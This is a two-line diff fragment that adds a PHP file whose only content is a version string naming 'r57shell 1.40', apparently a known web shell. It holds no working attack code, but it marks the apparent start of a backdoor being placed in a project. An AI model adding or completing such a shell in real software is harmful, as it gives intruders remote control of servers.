@@ -1,0 +1,2 @@
+<?php
+$version = 'r57shell 1.40';
